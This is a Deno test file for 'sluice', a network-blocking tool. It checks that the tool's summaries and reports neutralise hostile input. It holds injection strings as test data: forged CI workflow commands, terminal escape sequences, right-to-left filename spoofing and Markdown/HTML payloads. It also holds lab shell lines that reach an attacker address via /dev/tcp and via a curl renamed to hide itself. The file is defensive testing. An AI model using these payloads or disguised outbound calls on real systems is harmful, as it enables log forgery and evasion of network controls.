import assert from "node:assert/strict";
import { Lab } from "../lab/lab.ts";
import { ADDRESSES } from "../lab/topology.ts";
import { RUN_TIMEOUT_MS, sluiceArgs } from "./cell.ts";
import { runGuarded, stateOf } from "./lab_run.ts";

const ATTACKER = ADDRESSES.attacker.ipv4;

/** Arguments that would say something to whoever prints them as they are. */
const WORDS: readonly { name: string; word: string }[] = [
  { name: "a workflow command", word: "\n::error file=a.ts::forged\n" },
  { name: "the old workflow command", word: "##[error]forged" },
  { name: "colours and a cleared screen", word: "\x1b[2J\x1b[31mforged" },
  { name: "a title for the window", word: "\x1b]0;forged\x07" },
  { name: "a forged summary", word: "\rsluice (block): nothing contacted\n" },
  { name: "text from right to left", word: "\u202egpj.exe" },
  { name: "what Markdown would obey", word: "](http://x)|<img src=x>`@all" },
  { name: "eight-bit controls", word: "\u009b31mforged\u0085" },
  { name: "bytes that are no text", word: "$'\\xff\\xfe'" },
];

// All controls but the line break, and what turns text around.
// deno-lint-ignore no-control-regex
const UNSAFE = /[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/;

for (const { name, word } of WORDS) {
  Deno.test(`${name} in an argument is shown by no summary and no report as it is`, async () => {
    await using lab = await Lab.up();
    // The word is handed on by a shell, which can write any byte.
    const path = `${lab.directory}/attack.sh`;
    const quoted = word.startsWith("$'") ? word : `'${word}'`;
    await Deno.writeTextFile(
      path,
      `bash -c 'printf x > /dev/tcp/${ATTACKER}/4444' ${quoted} 2>/dev/null
      (exec -a ${quoted} curl -s http://${ATTACKER}/)
      cp /usr/bin/curl ${quoted.replaceAll("/", "_")} &&
        ./${quoted.replaceAll("/", "_")} -s http://${ATTACKER}:81/
      true\n`,
    );
    const result = await runGuarded(lab, ["bash", path]);
    assert.equal(result.code, 0, result.stderr);
    assert.match(
      result.stderr,
      /^sluice \(block\): \d+ endpoints: \d+ refused$/m,
    );
    assertSafe(result.stderr);

    const journal = `${stateOf(lab)}/run-${result.pid}/journal.ndjson`;
    for (const format of ["markdown", "json"]) {
      const report = await lab.in("run", [
        ...[...sluiceArgs(), "report", journal, "--format", format],
      ], { timeoutMs: RUN_TIMEOUT_MS });
      assert.equal(report.code, 0, report.stderr);
      assertSafe(report.stdout);
      if (format === "json") JSON.parse(report.stdout);
      else assert.doesNotMatch(report.stdout, /<img|\]\(http:\/\/x/);
    }
  });
}

Deno.test("a name that is asked for is shown by no summary and no report as it is", async () => {
  await using lab = await Lab.up();
  const names = [
    ...["\\027[31mforged.test", "\\010::error::forged.test"],
    ...["a\\013b.test", "\\226\\128\\174.test", "x|y`<b>.test"],
  ];
  const result = await runGuarded(lab, [
    ...["dig", "+tries=1", "+time=2", "+short", ...names],
  ]);
  assert.match(result.stderr, /^sluice \(block\): 5 endpoints: 5 refused$/m);
  assertSafe(result.stderr);
});

Deno.test("a command that is not there is named without what its name would do", async () => {
  await using lab = await Lab.up();
  const { code, stderr } = await runGuarded(lab, ["\x1b[31m\n::error::none"]);
  assert.equal(code, 127);
  assertSafe(stderr);
});

/** Nothing moves the cursor, and no line is an order to a workflow runner. */
function assertSafe(text: string): void {
  assert.doesNotMatch(text, UNSAFE);
  assert.doesNotMatch(text, /^\s*::(?:error|warning|notice|add-mask)/m);
  assert.doesNotMatch(text, /##\[/);
  // One summary: the one that is true.
  assert.ok((text.match(/^sluice \((?:block|audit)\)/gm) ?? []).length <= 1);
}
